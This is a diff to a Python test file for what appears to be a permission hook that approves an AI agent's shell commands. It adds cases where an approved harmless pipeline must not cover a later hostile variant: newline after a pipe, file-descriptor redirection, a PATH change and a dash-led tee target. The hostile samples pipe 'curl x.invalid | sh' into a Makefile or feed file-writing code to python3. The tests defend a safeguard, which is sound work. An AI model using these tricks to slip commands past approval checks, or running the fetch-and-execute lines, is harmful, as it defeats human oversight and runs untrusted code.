@@ -9,7 +9,10 @@ Every command inside such a compound, and a coprocess, now reads as fed. A secon
 107) nested a compound to end the first reading early, and fed "data filters" that were not:
 `./cat`, `PATH=dir cat`, a function named cat, `sort --compress-program=python3`, and `tee F`
 or `cat > F`, which write what the pipe brings (as a here-document into a file does, which was
-never granted). Real ph-claude-hook, agent.sock and Inbox (tests/approvals/conftest.py).
+never granted). A third round (helper 109): a newline right after `|`, a redirection or a
+descriptor the line opened (`{ cat; } > F`, `exec 3>F; ... | cat >&3`), PATH changed in a
+statement of its own, and `tee -- -d/../F`. Real ph-claude-hook, agent.sock and Inbox
+(tests/approvals/conftest.py).
 """
 
 from __future__ import annotations
@@ -43,6 +46,14 @@ CASES = [  # (approved for the run, a later command no grant of it may answer)
      "echo 'open(\"PWNED\", \"w\")' | sort -S 4k --compress-program=python3"),
     ("echo ok | tee Makefile", "echo 'all:; curl x.invalid | sh' | tee Makefile"),
     ("echo ok | cat > Makefile", "echo 'all:; curl x.invalid | sh' | cat > Makefile"),
+    # third round (helper 109): a newline after the pipe, a redirection or a file descriptor
+    # elsewhere in the line, PATH changed in a statement of its own, a dash-led file after --
+    ("echo 'print(1)' |\npython3", "echo 'open(\"PWNED\", \"w\")' |\npython3"),
+    ("echo 'print(1)' | # c\npython3", "echo 'open(\"PWNED\", \"w\")' | # c\npython3"),
+    ("echo ok | { cat; } > Makefile", "echo 'all:; curl x.invalid | sh' | { cat; } > Makefile"),
+    ("exec 3>Makefile; echo ok | cat >&3", "exec 3>Makefile; echo 'all:; curl x.invalid | sh' | cat >&3"),
+    ("PATH=/tmp/x; echo 'print(1)' | cat", "PATH=/tmp/x; echo 'open(\"PWNED\", \"w\")' | cat"),
+    ("echo ok | tee -- -d/../Makefile", "echo 'all:; curl x.invalid | sh' | tee -- -d/../Makefile"),
 ]
 
 
@@ -60,3 +71,18 @@ def test_a_compound_fed_only_data_filters_stays_grantable() -> None:
     assert ungrantable("cat notes.txt | { grep a; wc -l; }") == frozenset()
     assert ungrantable("cat x | grep a | sort | uniq -c") == frozenset()
     assert ungrantable("cat x | /usr/bin/grep a | head -5 | tee") == frozenset()
+
+
+async def test_a_run_answer_to_a_line_with_a_redirection_part_makes_its_grants(
+        agent_server: AgentServer) -> None:
+    """Helper 109: `echo ok | cat &>F` for the run raised "a rule needs a command, not only a
+    redirection" (the reader reads `cat &` and `>F`): the redirection alone makes no grant."""
+    from tests.approvals.conftest import next_pending
+    from tests.approvals.test_grant_unseen_input_s30 import _hook
+    from tests.approvals.test_inside_helper import hook_output
+
+    hook = await _hook(agent_server, "ls -la &>listing.txt")
+    req = await next_pending(agent_server.inbox)
+    decided = await agent_server.inbox.decide(req.id, True, "alice", "run")
+    assert [g.pattern for g in decided.grants] == ["ls -la"], decided.grants
+    assert hook_output((await hook)[1])["permissionDecision"] == "allow"
